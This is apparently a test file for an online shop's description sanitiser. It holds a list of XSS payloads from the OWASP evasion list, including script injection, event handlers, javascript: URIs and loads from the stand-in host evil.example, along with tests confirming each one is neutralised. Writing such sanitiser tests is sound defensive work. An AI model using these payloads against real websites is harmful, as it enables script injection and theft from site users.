import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { descriptionHtml, descriptionText } from './description-html.ts';

/** Shapes of attack from the OWASP XSS filter evasion list, and some that pass through Markdown. */
const ATTACKS = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<img src=x onerror=alert(1)>',
  '<svg/onload=alert(1)>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<math><mtext></p><img src=x onerror=alert(1)></mtext></math>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="data:text/html,<script>alert(1)</script>"></object>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href="java\tscript:alert(1)">x</a>',
  '<a href="&#106;avascript:alert(1)">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>',
  '<a href="vbscript:x">x</a>',
  '<a href="//evil.example">x</a>',
  '<a href="#" onclick="alert(1)" style="position:fixed">x</a>',
  '[x](javascript:alert(1))',
  '[x](<javascript:alert(1)>)',
  '![x](javascript:alert(1))',
  '<javascript:alert(1)>',
  '[x]: javascript:alert(1)\n[x]',
  '<style>@import "//evil.example/x.css";</style>',
  '<link rel=stylesheet href=//evil.example/x.css>',
  '<meta http-equiv="refresh" content="0;url=//evil.example">',
  '<base href="//evil.example/">',
  '<form action="//evil.example"><input name=card><button formaction="javascript:x">Pay</button></form>',
  '<p id="main" class="skip-link" style="background:url(//evil.example)">x</p>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<template><script>alert(1)</script></template>',
  '<textarea></textarea><script>alert(1)</script>',
  '<!--><script>alert(1)</script>-->',
  '<x/onpointerenter=alert(1)>hover</x>',
  '`<script>` and ```\n<script>alert(1)</script>\n```',
];

const ALLOWED_TAG =
  /^<\/?(p|br|hr|blockquote|ul|ol|li|h[3-6]|strong|b|em|i|u|s|del|sub|sup|code|pre|a|table|thead|tbody|tr|th|td)(?=[\s/>])/;

/** Every tag of the HTML is of the list and carries only the attributes that it may. */
function expectHarmless(html: string): void {
  for (const tag of html.match(/<[^>]*>?/g) ?? []) {
    expect(tag).toMatch(ALLOWED_TAG);
    const attributes = tag.replace(/^<\/?\w+/, '').replace(/\s*\/?>$/, '');
    expect(attributes).toMatch(
      /^(\s+(href="(https?:|mailto:|tel:|[^":]*")[^"]*"?|rel="noopener"|start="\d*"|scope="[^"]*"))*$/,
    );
    expect(tag).not.toMatch(/\son\w+=|style=|javascript:|vbscript:|data:|href="\/\//i);
  }
}

describe('descriptionHtml', () => {
  it('renders Markdown', () => {
    expect(descriptionHtml('A **solid** ring.\n\n- 18 k\n- 4 g')).toBe(
      '<p>A <strong>solid</strong> ring.</p>\n<ul>\n<li>18 k</li>\n<li>4 g</li>\n</ul>',
    );
  });

  it('keeps the HTML of an imported catalog', () => {
    expect(descriptionHtml('<p>Gold <em>bangle</em></p><table><tr><td>6</td></tr></table>')).toContain(
      '<em>bangle</em>',
    );
  });

  it('sets headings below those of the page', () => {
    expect(descriptionHtml('# Care\n\n### Cleaning')).toBe('<h3>Care</h3>\n<h4>Cleaning</h4>');
  });

  it('lets links out without giving them the opener', () => {
    expect(descriptionHtml('[size guide](https://shop.example/sizes)')).toBe(
      '<p><a href="https://shop.example/sizes" rel="noopener">size guide</a></p>',
    );
  });

  it('leaves an empty description empty', () => {
    expect(descriptionHtml('  \n ')).toBe('');
  });

  it.each(ATTACKS)('takes the harm out of %j', (attack) => {
    expectHarmless(descriptionHtml(attack));
    expectHarmless(descriptionHtml(`Lovely ring ${attack} indeed`));
  });

  it('takes the harm out of any mixture of attacks', () => {
    const pieces = fc.array(fc.oneof(fc.constantFrom(...ATTACKS), fc.string({ maxLength: 12 })), {
      maxLength: 6,
    });
    fc.assert(fc.property(pieces, (parts) => expectHarmless(descriptionHtml(parts.join('')))));
  });
});

describe('descriptionText', () => {
  it('is the text alone', () => {
    expect(descriptionText('A **solid** ring & <em>more</em>.\n\nSecond line', 200)).toBe(
      'A solid ring & more. Second line',
    );
  });

  it('ends at a word', () => {
    expect(descriptionText('Hand made in yellow gold', 15)).toBe('Hand made in…');
  });

  it('never exceeds its length by more than the ellipsis', () => {
    fc.assert(
      fc.property(fc.string({ maxLength: 400 }), fc.integer({ min: 5, max: 100 }), (text, max) => {
        expect(descriptionText(text, max).length).toBeLessThanOrEqual(max + 1);
      }),
    );
  });
});
